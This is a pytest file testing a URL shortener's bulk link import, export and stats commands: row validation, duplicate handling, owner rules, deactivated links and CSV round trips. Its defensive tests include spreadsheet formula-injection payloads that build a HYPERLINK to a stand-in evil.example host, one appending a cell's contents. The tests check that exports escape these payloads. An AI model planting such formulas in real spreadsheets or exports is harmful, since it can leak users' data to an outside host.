"""Bulk import and export of links: the service rules and the `import`/`export`/`stats` commands."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask.cli import ScriptInfo
from peewee import IntegrityError

from app.api.schemas import parse_import_row
from app.cli import main
from app.errors import InvalidInput
from app.models import Link
from app.services import imports
from app.services.links import delete_link
from tests.factories import make_link, make_user

HEADER = ["url", "alias", "title", "expires_at", "max_clicks", "redirect_type"]
FUTURE = (datetime.now(UTC) + timedelta(days=30)).isoformat()


def write_csv(path: Path, rows: list[dict], header: list[str] = HEADER) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=header)
        writer.writeheader()
        writer.writerows(rows)
    return path


def run_import(settings, rows, **options):
    return imports.import_links(rows, settings, parse_import_row, **options)


def codes_of(summary):
    return {r.row: r.code for r in summary.rejected}


def invoke(app, *args):
    result = app.test_cli_runner().invoke(args=list(args))
    return result


# --- the service --------------------------------------------------------------------------------


def test_rows_are_created_with_every_field(settings):
    rows = [
        {"url": "https://example.com/a", "alias": "imp-a", "title": "A", "expires_at": FUTURE,
         "max_clicks": "5", "redirect_type": "301"},
        {"url": "https://Bücher.example/b"},
    ]  # fmt: skip
    summary = run_import(settings, rows)
    assert (summary.created, summary.present, summary.rejected) == (2, 0, [])
    link = Link.get(Link.code == "imp-a")
    assert (link.target_url, link.title, link.max_clicks, link.redirect_type) == (
        "https://example.com/a",
        "A",
        5,
        301,
    )
    assert link.expires_at == datetime.fromisoformat(FUTURE) and link.is_active and link.owner_id is None
    assert Link.select().where(Link.target_url == "https://xn--bcher-kva.example/b").count() == 1


def test_bad_rows_are_rejected_with_reasons_and_cost_no_good_row(settings):
    make_link("https://other.example/", code="imp-taken")
    rows = [
        {"url": "https://example.com/ok1"},
        {"url": "not a url"},
        {"url": "http://10.0.0.1/admin"},
        {"url": "https://example.com/x", "alias": "health"},
        {"url": "https://example.com/x", "alias": "imp-taken"},
        {"url": "https://example.com/x", "expires_at": "next tuesday"},
        {"url": "https://example.com/x", "expires_at": "2001-01-01T00:00:00Z"},
        {"url": "https://example.com/x", "max_clicks": "0"},
        {"url": "https://example.com/x", "alias": "a!"},
        {"alias": "no-url"},
        "not an object",
        {"url": "https://example.com/x", "colour": "red"},
        {"url": "https://example.com/ok2"},
    ]
    summary = run_import(settings, rows, batch_size=4)
    assert summary.created == 2 and summary.present == 0
    assert codes_of(summary) == {
        2: "invalid_url",
        3: "invalid_url",
        4: "invalid_input",
        5: "alias_taken",
        6: "invalid_input",
        7: "invalid_input",
        8: "invalid_input",
        9: "invalid_input",
        10: "invalid_input",
        11: "invalid_input",
        12: "invalid_input",
    }
    reasons = {r.row: r.reason for r in summary.rejected}
    assert "public" in reasons[3]
    assert "reserved" in reasons[4]
    assert "taken by another URL" in reasons[5]
    assert reasons[6].startswith("expires_at:")
    assert "future" in reasons[7]
    assert reasons[10] == "url: this field is required"
    assert "unknown field" in reasons[12]
    assert [r.row for r in summary.rejected] == sorted(r.row for r in summary.rejected)


def test_rerunning_an_import_creates_nothing(settings):
    rows = [
        {"url": "https://example.com/r1", "alias": "imp-r1"},
        {"url": "https://example.com/r2", "title": "Two"},
        {"url": "https://example.com/r3"},
    ]
    assert run_import(settings, rows).created == 3
    again = run_import(settings, rows)
    assert (again.created, again.present, again.rejected) == (0, 3, [])
    assert Link.select().where(Link.target_url.startswith("https://example.com/r")).count() == 3


def test_identity_of_a_row_without_alias_is_url_owner_and_title(settings):
    owner = make_user("imp-owner")
    run_import(settings, [{"url": "https://example.com/same", "title": "T"}])
    summary = run_import(
        settings,
        [
            {"url": "https://EXAMPLE.com/same", "title": "T"},  # the same once normalised
            {"url": "https://example.com/same", "title": "Other"},
            {"url": "https://example.com/same"},
        ],
    )
    assert (summary.created, summary.present) == (2, 1)
    owned = run_import(settings, [{"url": "https://example.com/same", "title": "T"}], owner_id=owner.id)
    assert owned.created == 1 and Link.select().where(Link.owner == owner.id).count() == 1


def test_duplicate_rows_in_one_file_are_created_once(settings):
    rows = [{"url": "https://example.com/dup"}] * 3 + [{"url": "https://example.com/d", "alias": "imp-d"}] * 2
    summary = run_import(settings, rows, batch_size=2)
    assert (summary.created, summary.present) == (2, 3)


def test_an_alias_in_the_file_twice_with_another_target_is_taken(settings):
    rows = [
        {"url": "https://example.com/1", "alias": "imp-twice"},
        {"url": "https://example.com/2", "alias": "imp-twice"},
    ]
    summary = run_import(settings, rows)
    assert summary.created == 1 and codes_of(summary) == {2: "alias_taken"}


def test_a_deleted_links_alias_is_never_reused(settings, admin):
    make_link("https://example.com/old", code="imp-deleted")
    delete_link("imp-deleted", admin)
    summary = run_import(settings, [{"url": "https://example.com/old", "alias": "imp-deleted"}])
    assert codes_of(summary) == {1: "alias_taken"} and "deleted" in summary.rejected[0].reason


def test_an_expired_link_already_present_is_not_a_rejection(settings):
    make_link("https://example.com/exp", code="imp-exp", expires_at=datetime.now(UTC) - timedelta(days=1))
    rows = [{"url": "https://example.com/exp", "alias": "imp-exp", "expires_at": "2001-01-01T00:00:00Z"}]
    assert run_import(settings, rows).present == 1


def test_unknown_owner_is_refused_before_anything_is_written(settings):
    with pytest.raises(InvalidInput):
        run_import(settings, [{"url": "https://example.com/o"}], owner_id=999_999)


def test_targets_on_this_service_are_refused_with_a_base_url(settings):
    from dataclasses import replace

    rows = [{"url": "https://sho.rt/abc"}, {"url": "http://sho.rt/abc"}, {"url": "https://sho.rt:8443/x"}]
    summary = run_import(replace(settings, base_url="https://sho.rt"), rows)
    assert codes_of(summary) == {1: "invalid_url", 2: "invalid_url"}  # either scheme; another port is fine


def test_progress_is_reported_per_batch(settings):
    seen = []
    run_import(settings, [{"url": f"https://example.com/p{i}"} for i in range(5)], batch_size=2,
               on_progress=seen.append)  # fmt: skip
    assert seen == [2, 2, 1]


def test_a_code_collision_draws_again(settings, monkeypatch):
    make_link(code="imp0000")
    drawn = iter(["imp0000", "imp0000", "imp0001", "imp0002"])
    monkeypatch.setattr(imports, "generate_code", lambda _length: next(drawn))
    summary = run_import(settings, [{"url": "https://example.com/c1"}, {"url": "https://example.com/c2"}])
    assert summary.created == 2
    assert {
        link.code for link in Link.select().where(Link.target_url.startswith("https://example.com/c"))
    } == {
        "imp0001",
        "imp0002",
    }


def test_when_no_code_is_free_the_row_is_rejected(settings, monkeypatch):
    make_link(code="imp9999")
    monkeypatch.setattr(imports, "generate_code", lambda _length: "imp9999")
    summary = run_import(settings, [{"url": "https://example.com/nofree"}])
    assert codes_of(summary) == {1: "code_generation_failed"}


def test_an_alias_taken_between_check_and_insert_is_settled(settings, monkeypatch):
    make_link("https://example.com/race", code="imp-race")
    make_link("https://example.com/other", code="imp-race2")
    monkeypatch.setattr(imports, "_existing_codes", _blind_first_call(imports._existing_codes))
    rows = [
        {"url": "https://example.com/race", "alias": "imp-race"},
        {"url": "https://example.com/race2", "alias": "imp-race2"},
    ]
    summary = run_import(settings, rows)
    assert (summary.created, summary.present) == (0, 1) and codes_of(summary) == {2: "alias_taken"}


def _blind_first_call(real):
    calls = []

    def lookup(codes):
        calls.append(codes)
        return {} if len(calls) == 1 else real(codes)

    return lookup


def test_a_row_the_database_refuses_costs_no_other_row(settings, monkeypatch):
    real = imports._insert_returning_codes

    def refuse_bad(rows):
        if any(row[1].endswith("/refused") for row in rows):
            raise IntegrityError("simulated refusal\nDETAIL: more")
        return real(rows)

    monkeypatch.setattr(imports, "_insert_returning_codes", refuse_bad)
    rows = [
        {"url": "https://example.com/fine1"},
        {"url": "https://example.com/refused", "alias": "imp-refused"},
        {"url": "https://example.com/fine2"},
    ]
    summary = run_import(settings, rows)
    assert summary.created == 2
    assert codes_of(summary) == {2: "database_refused"}
    assert summary.rejected[0].reason == "the database refused the row: simulated refusal"
    assert not Link.select().where(Link.code == "imp-refused").exists()


def test_export_streams_every_link_that_is_not_deleted_oldest_first(admin):
    made = [make_link(f"https://example.com/e{i}", code=f"imp-e{i}") for i in range(5)]
    delete_link("imp-e2", admin)
    exported = [row["alias"] for row in imports.export_rows(batch_size=2) if row["alias"].startswith("imp-e")]
    assert exported == [link.code for link in made if link.code != "imp-e2"]


PAST = "2001-01-01T00:00:00+00:00"


def test_dead_rows_are_created_deactivated_and_never_redirect(settings, client):
    rows = [
        {"url": "https://example.com/d1", "alias": "imp-dead-inactive", "state": "inactive"},
        {"url": "https://example.com/d2", "alias": "imp-d-exp", "state": "expired", "expires_at": PAST},
        {"url": "https://example.com/d3", "alias": "imp-d-used", "state": "exhausted", "max_clicks": "2"},
        {"url": "https://example.com/d4", "alias": "imp-dead-flag", "is_active": "false"},
        {"url": "https://example.com/d5", "alias": "imp-dead-json", "is_active": False, "state": "active"},
        {"url": "https://example.com/d6", "alias": "imp-dead-both", "state": "inactive", "is_active": True},
        {"url": "https://example.com/d7", "alias": "imp-dead-old", "state": "Inactive", "expires_at": PAST},
        {"url": "https://example.com/a1", "alias": "imp-alive", "state": "active", "is_active": "TRUE"},
        {"url": "https://example.com/a2", "alias": "imp-alive2", "state": "", "is_active": ""},
    ]  # fmt: skip
    summary = run_import(settings, rows)
    assert (summary.created, summary.rejected) == (9, [])
    active = dict(Link.select(Link.code, Link.is_active).where(Link.code.startswith("imp-")).tuples())
    assert {code for code, is_active in active.items() if is_active} == {"imp-alive", "imp-alive2"}
    assert Link.get(Link.code == "imp-d-exp").expires_at == datetime.fromisoformat(PAST)
    assert Link.get(Link.code == "imp-d-used").max_clicks == 2
    for code in active:
        assert client.get(f"/{code}").status_code == (302 if active[code] else 410), code
    again = run_import(settings, rows)
    assert (again.created, again.present, again.rejected) == (0, 9, [])


def test_a_past_expiry_is_refused_unless_the_row_is_dead(settings):
    rows = [
        {"url": "https://example.com/p1", "alias": "imp-past-active", "state": "active", "expires_at": PAST},
        {"url": "https://example.com/p2", "alias": "imp-past-none", "expires_at": PAST},
        {"url": "https://example.com/p3", "alias": "imp-past-exp", "state": "expired", "expires_at": PAST},
    ]  # fmt: skip
    summary = run_import(settings, rows)
    assert summary.created == 1 and codes_of(summary) == {1: "invalid_input", 2: "invalid_input"}
    assert all("future" in r.reason for r in summary.rejected)
    link = Link.get(Link.code == "imp-past-exp")
    assert not link.is_active and link.expires_at == datetime.fromisoformat(PAST)


def test_bad_state_is_active_and_owner_cells_are_rejected_and_cost_no_good_row(settings):
    rows = [
        {"url": "https://example.com/s1", "state": "zombie"},
        {"url": "https://example.com/s2", "is_active": "maybe"},
        {"url": "https://example.com/s3", "owner_id": "alice"},
        {"url": "https://example.com/s4", "owner_id": 0},
        {"url": "https://example.com/s5", "owner_id": True},
        {"state": "inactive"},
        {"url": "https://example.com/s7"},
    ]
    summary = run_import(settings, rows)
    assert summary.created == 1 and set(codes_of(summary)) == {1, 2, 3, 4, 5, 6}
    reasons = {r.row: r.reason for r in summary.rejected}
    assert reasons[1] == "state: must be one of active, inactive, expired, exhausted"
    assert reasons[2] == "is_active: must be true or false"
    assert reasons[3] == reasons[4] == reasons[5] == "owner_id: must be a user id (a positive integer)"
    assert reasons[6] == "url: this field is required"


def test_a_row_naming_an_owner_is_never_made_public(settings):
    owner = make_user("imp-row-owner")
    rows = [
        {"url": "https://example.com/o1", "alias": "imp-owned1", "owner_id": str(owner.id)},
        {"url": "https://example.com/o2", "title": "Mine", "owner_id": owner.id},
        {"url": "https://example.com/o3", "alias": "imp-owned3", "owner_id": "999999"},
        {"url": "https://example.com/o4", "alias": "imp-public"},
    ]
    plain = run_import(settings, rows)
    assert plain.created == 1 and codes_of(plain) == {
        1: "owner_not_kept",
        2: "owner_not_kept",
        3: "owner_not_kept",
    }
    assert plain.rejected[0].reason == (
        f"owned by user {owner.id} in the export: import with --keep-owners or --owner"
    )
    assert Link.get(Link.code == "imp-public").owner_id is None
    assert (
        not Link.select()
        .where(Link.target_url.in_(["https://example.com/o1", "https://example.com/o2"]))
        .exists()
    )

    kept = run_import(settings, rows, keep_owners=True)
    assert (kept.created, kept.present) == (2, 1) and codes_of(kept) == {3: "unknown_owner"}
    assert "no user with id 999999" in kept.rejected[0].reason
    assert Link.get(Link.code == "imp-owned1").owner_id == owner.id
    assert Link.get(Link.target_url == "https://example.com/o2").owner_id == owner.id
    again = run_import(settings, rows, keep_owners=True)
    assert (again.created, again.present, codes_of(again)) == (0, 3, {3: "unknown_owner"})
    # Without the option, rows already present stay present: nothing is created, nothing dropped.
    plain_again = run_import(settings, rows)
    assert (plain_again.created, plain_again.present, codes_of(plain_again)) == (0, 3, {3: "owner_not_kept"})


def test_an_explicit_owner_overrides_the_owner_a_row_names(settings):
    owner, other = make_user("imp-named"), make_user("imp-override")
    rows = [
        {"url": "https://example.com/v1", "owner_id": str(owner.id)},
        {"url": "https://example.com/v2", "owner_id": "999999"},
        {"url": "https://example.com/v3"},
    ]
    summary = run_import(settings, rows, owner_id=other.id)
    assert (summary.created, summary.rejected) == (3, [])
    assert Link.select().where(Link.owner == other.id).count() == 3
    assert run_import(settings, rows, owner_id=other.id).present == 3
    with pytest.raises(InvalidInput):
        run_import(settings, rows, owner_id=other.id, keep_owners=True)


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("'=escaped", "''=escaped"),
        ("'quoted'", "''quoted'"),
        ("plain = text", "plain = text"),
        ("", ""),
        (7, 7),
        (None, None),
    ],
)
def test_csv_cells_are_escaped_against_formulas_and_read_back_as_written(value, cell):
    assert imports.csv_cell(value) == cell
    assert imports.from_csv_cell(cell) == value


def test_a_quote_that_escapes_nothing_is_kept():
    assert imports.from_csv_cell("'hello") == "'hello"


# --- the commands -------------------------------------------------------------------------------


def test_import_csv_command_prints_a_summary(app, tmp_path):
    path = write_csv(
        tmp_path / "links.csv",
        [
            {"url": "https://example.com/csv1", "alias": "imp-csv1", "max_clicks": "3"},
            {"url": "https://example.com/csv2", "title": "Two", "expires_at": FUTURE, "redirect_type": "308"},
            {"url": "ftp://example.com/bad"},
        ],
    )
    result = invoke(app, "import", str(path))
    assert result.exit_code == 0, result.output
    assert "Import summary" in result.output and "invalid_url" in result.output
    assert Link.get(Link.code == "imp-csv1").max_clicks == 3
    assert Link.get(Link.title == "Two").redirect_type == 308


def test_import_json_command_with_owner(app, tmp_path):
    owner = make_user("imp-json-owner")
    path = tmp_path / "links.json"
    path.write_text(json.dumps([{"url": "https://example.com/j1", "max_clicks": 2}, {"url": 5}]))
    result = invoke(app, "import", str(path), "--owner", str(owner.id))
    assert result.exit_code == 0, result.output
    assert Link.get(Link.target_url == "https://example.com/j1").owner_id == owner.id


def test_import_command_writes_rejects_that_import_again_once_fixed(app, tmp_path):
    path = write_csv(
        tmp_path / "links.csv",
        [{"url": "https://example.com/ok"}, {"url": "https://example.com/x", "expires_at": "soon"}],
    )
    rejects = tmp_path / "rejects.csv"
    result = invoke(app, "import", str(path), "--rejects", str(rejects))
    assert result.exit_code == 0, result.output
    with rejects.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 1 and rows[0]["row"] == "2" and rows[0]["error"] == "invalid_input"
    assert rows[0]["reason"].startswith("expires_at:") and rows[0]["url"] == "https://example.com/x"
    rows[0]["expires_at"] = FUTURE
    write_csv(rejects, rows, header=list(rows[0]))
    fixed = invoke(app, "import", str(rejects))
    assert fixed.exit_code == 0 and Link.select().where(Link.target_url == "https://example.com/x").exists()


def test_rejects_of_json_rows_that_are_not_objects_are_written(app, tmp_path):
    path = tmp_path / "links.json"
    path.write_text(json.dumps([["https://example.com/list"], {"url": "https://example.com/t", "title": {}}]))
    rejects = tmp_path / "rejects.csv"
    assert invoke(app, "import", str(path), "--rejects", str(rejects)).exit_code == 0
    text = rejects.read_text()
    assert '[""https://example.com/list""]' in text and "{}" in text


def test_import_command_refuses_files_it_cannot_read(app, tmp_path):
    no_url = write_csv(tmp_path / "a.csv", [{"link": "x"}], header=["link"])
    assert "header" in invoke(app, "import", str(no_url)).output
    extra = write_csv(tmp_path / "b.csv", [{"url": "x", "colour": "red"}], header=["url", "colour"])
    assert "unknown column(s) 'colour'" in invoke(app, "import", str(extra)).output
    broken = tmp_path / "c.json"
    broken.write_text("[{")
    assert "not valid JSON" in invoke(app, "import", str(broken)).output
    scalar = tmp_path / "d.json"
    scalar.write_text("{}")
    assert "JSON array" in invoke(app, "import", str(scalar)).output


def test_import_command_reports_an_unknown_owner(app, tmp_path):
    path = write_csv(tmp_path / "links.csv", [{"url": "https://example.com/u"}])
    result = invoke(app, "import", str(path), "--owner", "999999")
    assert result.exit_code != 0 and "no user with id 999999" in result.output


def test_csv_rows_with_more_cells_than_the_header_are_rejected(app, tmp_path):
    path = tmp_path / "links.csv"
    path.write_text("url,title\nhttps://example.com/cells,T,extra\nhttps://example.com/fine,T\n")
    result = invoke(app, "import", str(path))
    assert result.exit_code == 0 and "1 " in result.output
    assert not Link.select().where(Link.target_url == "https://example.com/cells").exists()
    assert Link.select().where(Link.target_url == "https://example.com/fine").exists()


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_export_then_import_into_the_same_database_finds_everything_present(app, tmp_path, file_format):
    owner = make_user("imp-rt-owner")
    make_link("https://example.com/rt1", code="imp-rt1", title="One, with a comma", max_clicks=4)
    make_link("https://example.com/rt2", code="imp-rt2", owner=owner, redirect_type=301)
    make_link("https://example.com/rt3", code="imp-rt3", expires_at=datetime.now(UTC) - timedelta(hours=1))
    make_link("https://example.com/rt4", code="imp-rt4", is_active=False)
    path = tmp_path / f"links.{file_format}"
    result = invoke(app, "export", "--format", file_format, "--output", str(path))
    assert result.exit_code == 0, result.output
    total = Link.select().where(Link.deleted_at.is_null()).count()
    again = invoke(app, "import", str(path))
    assert again.exit_code == 0, again.output
    summary = run_import(app.extensions["settings"], _read(path, file_format))
    assert (summary.created, summary.present, summary.rejected) == (0, total, [])


def _read(path: Path, file_format: str) -> list[dict]:
    if file_format == "json":
        return json.loads(path.read_text())
    with path.open(newline="") as handle:
        return [
            {name: imports.from_csv_cell(value) for name, value in row.items()}
            for row in csv.DictReader(handle)
        ]


FORMULA_TITLE = '=HYPERLINK("https://evil.example/?"&A1,"click me")'


def _hard_delete_links() -> None:
    """Empty the link table, as in a fresh database (the users stay)."""
    Link.delete().execute()


def _link_rows() -> dict[str, dict]:
    return {row["alias"]: {k: v for k, v in row.items() if k not in ("created_at", "click_count")}
            for row in imports.export_rows()}  # fmt: skip


@pytest.mark.parametrize("file_format", ["csv", "json"])
def test_an_export_imports_into_a_fresh_database_as_it_was(app, client, tmp_path, file_format):
    alice = make_user("imp-alice")
    make_link("https://bank.example/login", code="bank-login", is_active=False, click_count=40)
    make_link("https://example.com/secret", code="alice-secret", owner=alice, title="Alice's")
    make_link("https://example.com/gone", code="alice-gone", owner=alice, is_active=False)
    make_link(
        "https://example.com/old", code="imp-expired", expires_at=datetime.now(UTC) - timedelta(hours=1)
    )
    make_link("https://example.com/used", code="imp-used", max_clicks=2, human_click_count=2, click_count=3)
    make_link("https://example.com/ok", code="-imp-live", title=FORMULA_TITLE, max_clicks=9, click_count=5)
    make_link("https://example.com/q", code="imp-quoted", title="'=not a formula", redirect_type=301)
    before = _link_rows()
    path = tmp_path / f"links.{file_format}"
    assert invoke(app, "export", "--format", file_format, "--output", str(path)).exit_code == 0
    _hard_delete_links()

    plain = invoke(app, "import", str(path), "--rejects", str(tmp_path / "rejects.csv"))
    assert plain.exit_code == 0, plain.output
    assert "owner_not_kept" in plain.output and not Link.select().where(Link.code == "alice-secret").exists()
    assert client.get("/bank-login").status_code == 410
    assert client.get("/-imp-live").status_code == 302
    kept = invoke(app, "import", str(tmp_path / "rejects.csv"), "--keep-owners")
    assert kept.exit_code == 0, kept.output
    assert client.get("/urls/alice-secret").status_code != 200

    # As it was, but dead links are deactivated (their state reads "inactive") and clicks start at 0.
    dead = {"active": "active", "inactive": "inactive", "expired": "inactive", "exhausted": "inactive"}
    assert _link_rows() == {code: {**row, "state": dead[row["state"]]} for code, row in before.items()}
    assert [before[code]["state"] for code in ("bank-login", "imp-expired", "imp-used")] == [
        "inactive",
        "expired",
        "exhausted",
    ]
    assert {link.code: (link.is_active, link.click_count) for link in Link.select()} == {
        "bank-login": (False, 0), "alice-secret": (True, 0), "alice-gone": (False, 0),
        "imp-expired": (False, 0), "imp-used": (False, 0), "-imp-live": (True, 0), "imp-quoted": (True, 0),
    }  # fmt: skip
    assert Link.get(Link.code == "alice-gone").owner_id == alice.id
    assert client.get("/alice-gone").status_code == 410
    again = invoke(app, "import", str(path), "--keep-owners")
    assert again.exit_code == 0
    summary = run_import(app.extensions["settings"], _read(path, file_format), keep_owners=True)
    assert (summary.created, summary.present, summary.rejected) == (0, 7, [])


def test_csv_export_and_rejects_escape_formulas(app, tmp_path):
    make_link("https://example.com/f", code="-imp-formula", title=FORMULA_TITLE)
    path = tmp_path / "links.csv"
    assert invoke(app, "export", "--output", str(path)).exit_code == 0
    with path.open(newline="") as handle:
        row = next(r for r in csv.DictReader(handle) if r["url"] == "https://example.com/f")
    assert row["alias"] == "'-imp-formula" and row["title"] == "'" + FORMULA_TITLE
    json_rows = json.loads(invoke(app, "export", "--format", "json").stdout)
    assert json_rows[-1]["title"] == FORMULA_TITLE  # JSON is not for spreadsheets: unescaped

    bad = write_csv(tmp_path / "bad.csv", [{"url": "nope", "title": "'" + FORMULA_TITLE, "alias": "@imp"}])
    rejects = tmp_path / "rejects.csv"
    assert invoke(app, "import", str(bad), "--rejects", str(rejects)).exit_code == 0
    with rejects.open(newline="") as handle:
        rejected = next(csv.DictReader(handle))
    assert rejected["title"] == "'" + FORMULA_TITLE and rejected["alias"] == "'@imp"


def test_import_refuses_owner_with_keep_owners(app, tmp_path):
    path = write_csv(tmp_path / "links.csv", [{"url": "https://example.com/both"}])
    result = invoke(app, "import", str(path), "--owner", "1", "--keep-owners")
    assert result.exit_code != 0 and "exclude each other" in result.output


def test_export_writes_json_to_stdout(app):
    make_link("https://example.com/stdout", code="imp-stdout")
    result = invoke(app, "export", "--format", "json")
    rows = json.loads(result.stdout)
    assert {"alias": "imp-stdout", "url": "https://example.com/stdout"}.items() <= rows[-1].items()
    assert set(rows[-1]) == set(imports.EXPORT_COLUMNS)


def test_export_of_an_empty_selection_is_valid(app, monkeypatch):
    monkeypatch.setattr(imports, "export_rows", lambda: iter(()))
    assert json.loads(invoke(app, "export", "--format", "json").stdout) == []
    assert invoke(app, "export").stdout.strip() == ",".join(imports.EXPORT_COLUMNS)


def test_stats_command_shows_totals_and_the_last_seven_days(app):
    link = make_link("https://example.com/st", code="imp-stats")
    recorder = app.extensions["clicks"]
    now = datetime.now(UTC)
    for age, agent in ((0, "Mozilla/5.0 Firefox/120.0"), (0, "curl/8.0"), (2, "Mozilla/5.0 Firefox/120.0")):
        recorder.record(link.id, user_agent=agent, now=now - timedelta(days=age))
    recorder.flush()
    result = invoke(app, "stats", "imp-stats")
    assert result.exit_code == 0, result.output
    assert "imp-stats → https://example.com/st" in result.output
    assert "last 7 days: 3 clicks, 2 by people, 1 by bots" in result.output
    days = [line for line in result.output.splitlines() if line.count("-") == 2 and "│" in line]
    assert len(days) == 7 and now.strftime("%Y-%m-%d") in days[-1]


def test_stats_command_sees_owned_links_and_reports_unknown_codes(app):
    make_link(code="imp-owned", owner=make_user("imp-stats-owner"))
    assert invoke(app, "stats", "imp-owned").exit_code == 0
    missing = invoke(app, "stats", "imp-none")
    assert missing.exit_code != 0 and "No short link with this code" in missing.output


# --- the console script -------------------------------------------------------------------------


def test_console_script_runs_the_same_commands(app, tmp_path):
    path = write_csv(tmp_path / "links.csv", [{"url": "https://example.com/main", "alias": "imp-main"}])
    runner = CliRunner()
    info = ScriptInfo(create_app=lambda: app)
    result = runner.invoke(main, ["import", str(path)], obj=info)
    assert result.exit_code == 0, result.output
    assert Link.get(Link.code == "imp-main").target_url == "https://example.com/main"
    listing = runner.invoke(main, ["--help"], obj=info).output
    for command in ("import", "export", "stats", "create-user", "create-admin", "issue-key", "db"):
        assert f"  {command} " in listing


def test_console_script_builds_the_app_from_the_environment(tmp_path):
    from tests.system.service import ROOT, service_env

    script = Path(sys.executable).with_name("shortener")
    env = service_env(tmp_path)
    path = write_csv(tmp_path / "links.csv", [{"url": "https://example.com/env"}])
    for args in (["db", "upgrade"], ["import", str(path)], ["export", "--format", "json"]):
        result = subprocess.run(
            [script, *args], cwd=ROOT, env=env, capture_output=True, text=True, timeout=60
        )
        assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)[0]["url"] == "https://example.com/env"
